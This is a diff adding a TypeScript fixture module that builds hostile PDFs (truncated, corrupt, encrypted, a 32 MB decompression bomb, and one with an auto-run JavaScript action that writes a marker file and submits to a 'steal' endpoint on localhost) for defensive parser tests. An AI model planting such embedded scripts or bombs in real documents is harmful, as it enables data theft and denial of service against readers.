@@ -1,0 +1,189 @@
+/**
+ * Poison inputs for the hostile-input and fault-injection suites: files that look like PDFs (or
+ * claim to) but are truncated, damaged, locked, empty of text, enormous, or carry active content.
+ * Each is built byte by byte here — small, deterministic, and with no real document inside — so a
+ * test can say exactly what the system must answer for it.
+ */
+import { deflateSync } from 'node:zlib';
+
+/** One indirect object's body (`<< … >>`, or a dictionary followed by a stream). */
+type PdfObject = string | Buffer;
+
+/**
+ * Writes a PDF with a correct cross-reference table: object n is `objects[n - 1]`, object 1 is
+ * the catalog. `trailerExtra` is added to the trailer dictionary (e.g. `/Encrypt 9 0 R`).
+ */
+function buildPdf(objects: PdfObject[], trailerExtra = ''): Buffer {
+  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
+  let offset = parts[0]!.length;
+  const offsets: number[] = [];
+  objects.forEach((body, i) => {
+    const chunk = Buffer.concat([Buffer.from(`${i + 1} 0 obj\n`, 'latin1'), Buffer.isBuffer(body) ? body : Buffer.from(body, 'latin1'), Buffer.from('\nendobj\n', 'latin1')]);
+    offsets.push(offset);
+    parts.push(chunk);
+    offset += chunk.length;
+  });
+  const xref = [`xref\n0 ${objects.length + 1}\n`, '0000000000 65535 f \n', ...offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`)].join('');
+  parts.push(Buffer.from(`${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${offset}\n%%EOF\n`, 'latin1'));
+  return Buffer.concat(parts);
+}
+
+function stream(dict: string, data: Buffer): Buffer {
+  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream', 'latin1')]);
+}
+
+const escapePdfText = (s: string) => s.replace(/[\\()]/g, (c) => `\\${c}`);
+
+/** A short wording, one line per entry, enough for every stage to find a heading and clauses. */
+const WORDING = [
+  'HOME INSURANCE POLICY WORDING',
+  '1. Definitions',
+  '"Home" means the private dwelling shown in the schedule.',
+  '2. What is covered',
+  'We will pay for loss of or damage to the Home caused by fire, storm or flood.',
+  'The most we will pay for any one claim is GBP 500,000.',
+  '3. What is not covered',
+  'We will not pay the first GBP 250 of any claim (the excess).',
+  'We will not pay for loss or damage caused by wear and tear.',
+  '4. Conditions',
+  'You must tell us about a claim within 30 days.',
+];
+
+/** Content stream that writes `lines` top-down in 11 pt Helvetica. */
+function textContent(lines: string[], top = 760): Buffer {
+  const ops = lines.map((l, i) => `BT /F1 11 Tf 56 ${top - i * 18} Td (${escapePdfText(l)}) Tj ET`);
+  return Buffer.from(ops.join('\n'), 'latin1');
+}
+
+/** A document of `pages` pages, each with its own content stream (object numbers: 1 catalog, 2 pages, 3 font, then page + content pairs). */
+function pagedPdf(pageContents: Buffer[], opts: { catalogExtra?: string; compress?: boolean; trailerExtra?: string; extraObjects?: PdfObject[] } = {}): Buffer {
+  const n = pageContents.length;
+  const firstPage = 4;
+  const kids = Array.from({ length: n }, (_, i) => `${firstPage + i * 2} 0 R`).join(' ');
+  const objects: PdfObject[] = [
+    `<< /Type /Catalog /Pages 2 0 R ${opts.catalogExtra ?? ''}>>`,
+    `<< /Type /Pages /Kids [${kids}] /Count ${n} >>`,
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
+  ];
+  pageContents.forEach((content, i) => {
+    objects.push(`<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents ${firstPage + i * 2 + 1} 0 R >>`);
+    objects.push(opts.compress ? stream('/Filter /FlateDecode', deflateSync(content)) : stream('', content));
+  });
+  objects.push(...(opts.extraObjects ?? []));
+  return buildPdf(objects, opts.trailerExtra);
+}
+
+/** A small, valid text PDF: the healthy baseline the hostile variants are made from. */
+export function plainTextPdf(lines: string[] = WORDING): Uint8Array {
+  return pagedPdf([textContent(lines)]);
+}
+
+/** A valid PDF cut off part-way: no objects after the cut, no xref, no trailer. */
+export function truncatedPdf(keepFraction = 0.35): Uint8Array {
+  const full = pagedPdf([textContent(WORDING), textContent(WORDING)]);
+  return full.subarray(0, Math.floor(full.length * keepFraction));
+}
+
+/**
+ * A PDF whose cross-reference table points into nowhere and whose objects are overwritten with
+ * garbage, so neither the xref nor a rebuild by scanning finds a page tree.
+ */
+export function corruptXrefPdf(): Uint8Array {
+  const good = Buffer.from(plainTextPdf());
+  const text = good.toString('latin1');
+  const xrefAt = text.lastIndexOf('xref');
+  const body = text.slice(0, xrefAt).replace(/\d+ 0 obj/g, (m) => 'x'.repeat(m.length)).replace(/endobj/g, 'xxxxxx');
+  const xref = text.slice(xrefAt).replace(/(\d{10}) 00000 n/g, () => '9999999999 00000 n').replace(/startxref\n\d+/, 'startxref\n987654321');
+  return Buffer.from(body + xref, 'latin1');
+}
+
+/**
+ * A password-protected PDF (standard security handler, RC4 40-bit): its user password is not
+ * empty, so a reader without the password cannot open it. O and U are fixed bytes that match no
+ * password — a reader must refuse it exactly as it refuses a real locked file.
+ */
+export function encryptedPdf(): Uint8Array {
+  const hex = (seed: number) => Array.from({ length: 32 }, (_, i) => ((seed * 31 + i * 97) & 0xff).toString(16).padStart(2, '0')).join('');
+  const objects: PdfObject[] = [
+    '<< /Type /Catalog /Pages 2 0 R >>',
+    '<< /Type /Pages /Kids [4 0 R] /Count 1 >>',
+    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
+    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R >>',
+    stream('', Buffer.from('garbled-ciphertext', 'latin1')),
+    `<< /Filter /Standard /V 1 /R 2 /Length 40 /O <${hex(7)}> /U <${hex(11)}> /P -44 >>`,
+  ];
+  return buildPdf(objects, `/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>] `);
+}
+
+/** A "scanned" PDF: pages with only vector shapes (the grey of a scanned page), no text layer at all. */
+export function scannedPdf(pages = 3): Uint8Array {
+  const shapes = Buffer.from('0.85 g 40 40 515 762 re f 0.2 g 60 700 300 12 re f 60 680 420 8 re f 60 660 380 8 re f', 'latin1');
+  return pagedPdf(Array.from({ length: pages }, () => shapes));
+}
+
+/** `pages` pages, each with one line of text (page counting is all a reader needs to refuse it). */
+export function manyPagesPdf(pages = 1001): Uint8Array {
+  return pagedPdf(Array.from({ length: pages }, (_, i) => textContent([`Page ${i + 1} of the schedule of endorsements.`])), { compress: true });
+}
+
+/**
+ * One page carrying `items` tiny text items (1 pt, one character each, in a grid), plus the
+ * normal wording on a second page: a text-extraction and layout stress input.
+ */
+export function manyTextItemsPdf(items = 100_000): Uint8Array {
+  const cols = 500;
+  const ops: string[] = ['BT /F1 1 Tf'];
+  for (let i = 0; i < items; i++) {
+    const x = 20 + (i % cols) * 1.1;
+    const y = 820 - Math.floor(i / cols) * 1.2;
+    ops.push(`1 0 0 1 ${x.toFixed(1)} ${y.toFixed(1)} Tm (${String.fromCharCode(97 + (i % 26))}) Tj`);
+  }
+  ops.push('ET');
+  return pagedPdf([Buffer.from(ops.join('\n'), 'latin1'), textContent(WORDING)], { compress: true });
+}
+
+/**
+ * A decompression bomb: a page whose FlateDecode content stream is `inflatedBytes` of padding
+ * (after one line of text) but only about a thousandth of that on disk. A reader that inflates it
+ * whole holds all of it in memory.
+ */
+export function pdfBomb(inflatedBytes = 32 * 1024 * 1024): Uint8Array {
+  const head = textContent(WORDING);
+  const padding = Buffer.alloc(inflatedBytes, 0x20);
+  return pagedPdf([Buffer.concat([head, Buffer.from('\n'), padding])], { compress: true });
+}
+
+/**
+ * A normal wording that also carries document-level JavaScript (an OpenAction and a names-tree
+ * script). A reader that executed it would write `markerPath`; a safe reader ignores it.
+ */
+export function javascriptPdf(markerPath = '/tmp/policydiff-js-executed'): Uint8Array {
+  const js = `app.alert('pwned'); try { require('fs').writeFileSync(${JSON.stringify(markerPath)}, 'executed'); } catch (e) {} this.submitForm('http://127.0.0.1:9/steal');`;
+  const action = `<< /Type /Action /S /JavaScript /JS (${escapePdfText(js)}) >>`;
+  // Objects 1–3 are fixed, the page and its content are 4–5; the action is object 6.
+  return pagedPdf([textContent(WORDING)], {
+    catalogExtra: '/OpenAction 6 0 R /Names << /JavaScript << /Names [(init) 6 0 R] >> >> ',
+    extraObjects: [action],
+  });
+}
+
+/** Bytes that are not a PDF at all, as browsers and renamers produce them. */
+export const notPdf = {
+  /** A Windows executable renamed to .pdf. */
+  exe: () => new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00]),
+  /** An HTML error page saved as .pdf. */
+  html: () => new TextEncoder().encode('<!DOCTYPE html><html><head><title>Session expired</title></head><body>Please log in</body></html>'),
+  empty: () => new Uint8Array(0),
+};
+
+/** Every poison input by name, with what only parsing reveals about it (for the e2e suites). */
+export const HOSTILE_PDFS = {
+  truncated: truncatedPdf,
+  corruptXref: corruptXrefPdf,
+  encrypted: encryptedPdf,
+  scanned: scannedPdf,
+  manyPages: manyPagesPdf,
+  manyTextItems: manyTextItemsPdf,
+  bomb: pdfBomb,
+  javascript: javascriptPdf,
+} as const;
